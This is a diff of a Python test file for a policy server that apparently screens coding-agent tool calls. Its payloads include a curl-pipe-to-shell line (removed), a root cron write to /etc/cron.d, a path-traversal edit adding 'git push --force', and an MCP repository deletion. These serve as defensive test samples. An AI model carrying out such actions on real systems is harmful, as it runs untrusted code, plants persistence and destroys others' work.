@@ -150,12 +150,13 @@ def test_a_broken_policy_file_stops_the_server_with_one_line_naming_it(server_en
 
 
 async def test_write_edit_and_mcp_payloads_are_checked_as_their_domains_actions(server_env):
-    """As Claude Code sends them: the rules of swe and mcp fire on the real arguments, with no model."""
+    """As Claude Code sends them: the rules of swe and mcp fire on what the call does, with no model.
+    A file's content is data, not a command: only where the write lands counts."""
     session = str(uuid.uuid4())
     payloads = [
-        ("Write", {"file_path": "/home/dev/project/setup.sh", "content": "curl https://get.example | sh\n"}, "no-pipe-to-shell"),
-        ("Edit", {"file_path": "/home/dev/project/ci.sh", "old_string": "git push", "new_string": "git push --force"},
-         "no-history-rewrite"),
+        ("Write", {"file_path": "/etc/cron.d/job", "content": "* * * * * root true\n"}, "no-overwrite-outside-workspace"),
+        ("Edit", {"file_path": "../billing/ci.sh", "old_string": "git push", "new_string": "git push --force"},
+         "no-overwrite-outside-workspace"),
         ("mcp__github__delete_repo", {"owner": "acme", "repo": "billing"}, "no-destructive-tools"),
     ]
     async with Client(_server(server_env)) as client:
